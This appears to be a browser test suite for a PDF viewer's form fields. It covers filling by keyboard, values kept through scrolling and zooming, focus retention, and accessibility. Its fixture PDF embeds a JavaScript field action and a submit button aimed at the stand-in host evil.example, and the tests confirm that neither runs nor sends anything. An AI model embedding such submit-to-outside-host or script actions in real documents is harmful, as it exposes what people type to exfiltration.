// Forms in a PDF are filled in on screen, and nowhere else: nothing is sent, nothing is run.

import assert from "node:assert/strict";
import { test } from "node:test";
import axe from "axe-core";
import { openPage, SIZES } from "./harness/browser.mjs";
import { line, pdfOf } from "./harness/pdf.mjs";
import { browser, PDF, site } from "./harness/stage.mjs";

const widget = (y, rest) => `/Subtype /Widget /F 4 /Rect [60 ${y} 300 ${y + 24}] /DA (/Helv 12 Tf 0 g) ${rest}`;
const form = (before = 0) =>
  pdfOf(
    [
      ...Array(before).fill({}),
      {
        content: line(780, "Please fill in") + "q 0.9 0.1 0.1 rg 400 600 100 100 re f Q\n",
        annotations: [
          widget(700, "/FT /Tx /T (name) /V (Ms S. de Wit) /DV (nobody) /AP << /N 502 0 R >> /AA << /K << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"),
          `/Subtype /Widget /F 4 /Rect [60 650 84 674] /FT /Btn /T (agreed) /TU (I agree) /V /Off /AS /Off /MK << /CA (4) >> /AP << /N << /Yes 500 0 R /Off 501 0 R >> >>`,
          widget(600, "/FT /Ch /Ff 131072 /T (when) /Opt [(Monday) (Tuesday) (Friday)] /V (Monday)"),
          widget(550, "/FT /Btn /Ff 65536 /T (send) /MK << /CA (Send) >> /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> /Flags 4 >>"),
          widget(500, "/FT /Btn /Ff 65536 /T (clear) /MK << /CA (Clear) >> /A << /S /ResetForm >>"),
        ],
      },
      {},
      {},
      {},
      {},
      {},
    ],
    {
      objects: {
        500: "<< /Type /XObject /Subtype /Form /BBox [0 0 24 24] /Length 25 >>\nstream\n0 0 1 rg 4 4 16 16 re f   \nendstream",
        502: "<< /Type /XObject /Subtype /Form /BBox [0 0 240 24] /Length 23 >>\nstream\n0 g 0 0 240 24 re f    \nendstream",
        501: "<< /Type /XObject /Subtype /Form /BBox [0 0 24 24] /Length 1 >>\nstream\n \nendstream",
      },
    },
  );

async function opened(options) {
  const letter = site.add({ ...PDF, plain: form() });
  const visit = await openPage(browser, options);
  await visit.page.goto(letter.link);
  await visit.page.waitForSelector('.annotationLayer input[name="name"]');
  await visit.page.waitForSelector('.ws-page[data-page="1"][data-rendered]');
  return { letter, ...visit };
}

test("fields are filled in by keyboard, keep what was filled in when far and zoomed, and keep the focus", async () => {
  const { page, faults, letter, close } = await opened();
  const name = page.locator('input[name="name"]');
  assert.equal(await name.inputValue(), "Ms S. de Wit");
  await name.focus();
  await page.keyboard.press("ControlOrMeta+A");
  await page.keyboard.type("S. de Wit");
  await page.keyboard.press("Tab");
  await page.keyboard.press("Space");
  assert.ok(await page.isChecked('input[name="agreed"]'));
  await page.keyboard.press("Tab");
  await page.selectOption('select[name="when"]', "Friday");
  await page.evaluate(() => document.querySelector("[data-zoom-in]").click());
  await page.waitForFunction(() => document.querySelector('.ws-page[data-page="1"] canvas').width > 350);
  assert.equal(await page.evaluate(() => document.activeElement.name), "when", "the focus stayed");
  await page.evaluate(() => document.activeElement.blur());
  await page.evaluate(() => document.querySelector('.ws-page[data-page="6"]').scrollIntoView());
  await page.waitForSelector('.ws-page[data-page="1"]:not([data-rendered])', { state: "attached" });
  await page.evaluate(() => scrollTo(0, 0));
  await page.waitForSelector('.ws-page[data-page="1"][data-rendered]');
  assert.equal(await name.inputValue(), "S. de Wit");
  assert.ok(await page.isChecked('input[name="agreed"]'));
  assert.equal(await page.inputValue('select[name="when"]'), "Friday");
  assert.ok(letter.requests.every(({ method }) => method === "GET"));
  assert.deepEqual(faults, []);
  await close();
});

test("a field that somebody is in stays, however far it is and however long the report", async () => {
  const letter = site.add({ ...PDF, plain: form(204) });
  const { page, faults, close } = await openPage(browser);
  await page.goto(letter.link);
  await page.waitForSelector('.ws-page[data-page="1"][data-rendered]');
  await page.fill("[data-page-number]", "205");
  await page.keyboard.press("Enter");
  await page.focus('input[name="name"]');
  await page.evaluate(() => scrollTo(0, 0));
  await page.waitForSelector('.ws-page[data-page="205"]:not([data-rendered])', { state: "attached" });
  assert.equal(await page.evaluate(() => document.activeElement.name), "name");
  assert.deepEqual(faults, []);
  await close();
});

test("a field's value is not drawn under the field as well", async () => {
  const { page, close } = await opened({ size: SIZES.desktop });
  // Drawn once more, without the fields, as soon as these lie over it.
  await page.waitForFunction(() => {
    const field = document.querySelector('input[name="name"]').getBoundingClientRect();
    const canvas = document.querySelector('.ws-page[data-page="1"] canvas');
    const box = canvas.getBoundingClientRect();
    const ratio = canvas.width / box.width;
    const { data } = canvas.getContext("2d").getImageData((field.x - box.x) * ratio, (field.y - box.y) * ratio, field.width * ratio, field.height * ratio);
    return data.every((value) => value > 250);
  });
  await close();
});

test("a button that would send the form does nothing; one that clears it does", async () => {
  const { page, faults, letter, close } = await opened({ size: SIZES.desktop });
  const before = letter.requests.length;
  const url = page.url();
  await page.fill('input[name="name"]', "somebody");
  const box = await page.locator('.ws-page[data-page="1"]').boundingBox();
  const at = (y) => [box.x + (150 / 595) * box.width, box.y + ((842 - y) / 842) * box.height];
  await page.mouse.click(...at(562));
  assert.equal(await page.inputValue('input[name="name"]'), "somebody");
  await page.mouse.click(...at(512));
  await page.waitForFunction(() => document.querySelector('input[name="name"]').value === "nobody");
  assert.equal(page.url(), url);
  assert.equal(letter.requests.length, before);
  assert.equal(page.context().pages().length, 1);
  assert.deepEqual(faults, []);
  await close();
});

test("axe finds nothing on a form", async () => {
  const { page, close } = await opened({ bypassCSP: true });
  await page.addScriptTag({ content: axe.source });
  const found = await page.evaluate(async () => (await window.axe.run()).violations.map(({ id, nodes }) => `${id}: ${nodes.map((node) => node.html).join(" ")}`));
  assert.deepEqual(found, []);
  await close();
});
